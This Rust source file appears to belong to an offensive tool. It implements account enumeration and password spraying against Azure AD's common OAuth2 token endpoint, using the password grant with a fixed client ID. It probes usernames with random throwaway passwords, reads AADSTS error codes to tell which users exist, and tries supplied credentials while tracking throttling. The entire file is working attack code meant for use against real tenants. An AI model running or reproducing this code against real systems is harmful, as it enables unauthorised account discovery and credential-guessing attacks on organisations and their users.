//! OAuth2 resource-owner password grant against the common token endpoint
//!
//! Used for both enumeration (with a throwaway password, relying on the
//! distinct "user not found" code) and spraying.

use super::{aadsts, snippet, transport_error, LOGIN_HOST};
use crate::proxy::Transport;
use crate::traits::{Enumerator, Sprayer};
use crate::types::{Credential, Identity, RawOutcome};
use async_trait::async_trait;
use rand::distributions::Alphanumeric;
use rand::Rng;
use reqwest::Method;
use serde::Deserialize;
use tracing::debug;

const TOKEN_PATH: &str = "/common/oauth2/token";
const CLIENT_ID: &str = "1b730954-1685-4b74-9bfd-dac224a7b894";
const RESOURCE: &str = "https://graph.windows.net";

#[derive(Debug, Deserialize)]
struct TokenError {
    #[serde(default)]
    error_codes: Vec<u32>,
    #[serde(default)]
    error_description: Option<String>,
}

pub struct OAuth2;

impl OAuth2 {
    async fn request_token(&self, username: &str, password: &str, transport: &Transport) -> RawOutcome {
        let upstream = format!("{}{}", LOGIN_HOST, TOKEN_PATH);
        let builder = match transport.request(Method::POST, &upstream) {
            Ok(builder) => builder,
            Err(e) => return transport_error(e),
        };

        let form = [
            ("resource", RESOURCE),
            ("client_id", CLIENT_ID),
            ("client_info", "1"),
            ("grant_type", "password"),
            ("username", username),
            ("password", password),
            ("scope", "openid"),
        ];

        let response = match builder.form(&form).send().await {
            Ok(response) => response,
            Err(e) => return transport_error(e),
        };
        let status = response.status().as_u16();
        let body = match response.text().await {
            Ok(body) => body,
            Err(e) => return transport_error(e),
        };

        let outcome = interpret_response(status, &body);
        debug!("oauth2 {} -> {} {:?}", username, status, outcome);
        outcome
    }
}

/// Map a token endpoint response to a raw outcome
pub fn interpret_response(status: u16, body: &str) -> RawOutcome {
    if status == 200 {
        return RawOutcome::Success(None);
    }
    if status == 429 {
        return RawOutcome::Throttled;
    }

    if let Ok(error) = serde_json::from_str::<TokenError>(body) {
        if let Some(code) = error.error_codes.first() {
            return aadsts::interpret(*code);
        }
        if let Some(outcome) = error.error_description.as_deref().and_then(aadsts::interpret_text) {
            return outcome;
        }
    }

    aadsts::interpret_text(body)
        .unwrap_or_else(|| RawOutcome::Unrecognized(format!("HTTP {}: {}", status, snippet(body))))
}

fn throwaway_password() -> String {
    let suffix: String = rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(12)
        .map(char::from)
        .collect();
    format!("Pw!{}", suffix)
}

#[async_trait]
impl Enumerator for OAuth2 {
    fn name(&self) -> &'static str {
        "oauth2"
    }

    async fn probe(&self, identity: &Identity, transport: &Transport) -> RawOutcome {
        self.request_token(identity.as_str(), &throwaway_password(), transport)
            .await
    }
}

#[async_trait]
impl Sprayer for OAuth2 {
    fn name(&self) -> &'static str {
        "oauth2"
    }

    async fn probe(&self, credential: &Credential, transport: &Transport) -> RawOutcome {
        self.request_token(credential.identity.as_str(), &credential.password, transport)
            .await
    }
}
